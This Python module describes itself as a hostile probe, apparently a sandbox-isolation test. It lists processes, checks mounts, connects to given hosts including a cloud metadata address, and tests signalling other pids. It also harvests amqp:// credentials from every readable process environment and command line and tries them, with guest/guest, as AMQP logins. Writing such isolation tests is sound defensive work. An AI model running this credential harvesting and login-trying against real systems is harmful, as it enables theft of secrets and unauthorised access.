"""A hostile script that looks around: who it runs as, which processes its /proc shows, what /tmp and
/dev/shm are, and whether its own sockets reach what they should not.

params (all optional):
  connect      ["host:port", ...]: a raw TCP connection to each (the broker, a loopback service, the cloud
               metadata address); each reports "connected" or the error
  amqp         ["host:port", ...]: an AMQP 0-9-1 login there with every credential the script can find
               (its environment, every /proc/<pid>/environ and cmdline it can read, amqp:// URLs in them)
               and guest/guest; each reports "logged in as <user>", "refused (<code>)" or the error
  fetch        a URL fetched through http_proxy (urllib), as an ordinary scraper does
  signal       a pid: os.kill(pid, 0), to tell whether this script may signal it
  signals      [pid, ...]: the same for each
"""
import os
import re
import socket
import struct
import urllib.request

URL = re.compile(rb"amqps?://([^:@/\s]+):([^@/\s]+)@")


def scrape(params):
    out = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}
    procs = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open("/proc/%s/cmdline" % entry, "rb") as f:
                    procs[entry] = f.read(200).replace(b"\0", b" ").decode("utf-8", "replace").strip()
            except OSError as exc:
                procs[entry] = type(exc).__name__
    out["procs"] = procs
    mounts = {}
    with open("/proc/self/mountinfo") as f:
        for line in f:
            fields = line.split()
            point = fields[4]
            if point in ("/tmp", "/var/tmp", "/dev/shm", "/proc"):
                fstype = fields[fields.index("-") + 1]
                mounts[point] = fstype
    out["mounts"] = mounts
    out["connect"] = {t: connect(t) for t in params.get("connect", [])}
    if params.get("amqp"):
        creds = found_credentials()
        out["credentials_found"] = sorted(u for u, _ in creds)
        creds.add(("guest", "guest"))
        out["amqp"] = {t: {u: amqp_login(t, u, p) for u, p in sorted(creds)} for t in params["amqp"]}
    if params.get("fetch"):
        try:
            with urllib.request.urlopen(params["fetch"], timeout=10) as resp:
                out["fetch"] = {"status": resp.status, "body": resp.read(200).decode("utf-8", "replace")}
        except Exception as exc:  # noqa: BLE001 - reported, not raised
            out["fetch"] = {"error": "%s: %s" % (type(exc).__name__, exc)}
    if params.get("signal"):
        out["signal"] = try_signal(params["signal"])
    if params.get("signals"):
        out["signals"] = {str(pid): try_signal(pid) for pid in params["signals"]}
    return out


def try_signal(pid):
    try:
        os.kill(int(pid), 0)
        return "ok"
    except OSError as exc:
        return type(exc).__name__


def split(target):
    host, port = target.rsplit(":", 1)
    return host, int(port)


def connect(target):
    try:
        with socket.create_connection(split(target), timeout=3):
            return "connected"
    except OSError as exc:
        return "%s: %s" % (type(exc).__name__, exc)


def found_credentials():
    creds = set()
    blobs = ["\0".join("%s=%s" % kv for kv in os.environ.items()).encode()]
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            for name in ("environ", "cmdline"):
                try:
                    with open("/proc/%s/%s" % (entry, name), "rb") as f:
                        blobs.append(f.read(1 << 20))
                except OSError:
                    pass
    for blob in blobs:
        for user, password in URL.findall(blob):
            creds.add((user.decode("utf-8", "replace"), password.decode("utf-8", "replace")))
    return creds


def frame(kind, channel, payload):
    return struct.pack(">BHI", kind, channel, len(payload)) + payload + b"\xce"


def read_frame(sock):
    head = recv_exact(sock, 7)
    kind, channel, size = struct.unpack(">BHI", head)
    payload = recv_exact(sock, size + 1)[:-1]
    return kind, payload


def recv_exact(sock, n):
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed by the broker")
        buf += chunk
    return buf


def shortstr(s):
    b = s.encode()
    return struct.pack(">B", len(b)) + b


def amqp_login(target, user, password):
    try:
        with socket.create_connection(split(target), timeout=3) as sock:
            sock.settimeout(5)
            sock.sendall(b"AMQP\x00\x00\x09\x01")
            kind, payload = read_frame(sock)  # connection.start
            if payload[:4] != struct.pack(">HH", 10, 10):
                return "unexpected greeting"
            response = ("\0%s\0%s" % (user, password)).encode()
            start_ok = (struct.pack(">HH", 10, 11) + struct.pack(">I", 0) + shortstr("PLAIN")
                        + struct.pack(">I", len(response)) + response + shortstr("en_US"))
            sock.sendall(frame(1, 0, start_ok))
            kind, payload = read_frame(sock)
            cls, meth = struct.unpack(">HH", payload[:4])
            if (cls, meth) == (10, 30):  # connection.tune: the login was accepted
                return "logged in as " + user
            if (cls, meth) == (10, 50):
                return "refused (%d)" % struct.unpack(">H", payload[4:6])[0]
            return "unexpected method %d.%d" % (cls, meth)
    except OSError as exc:
        return "%s: %s" % (type(exc).__name__, exc)
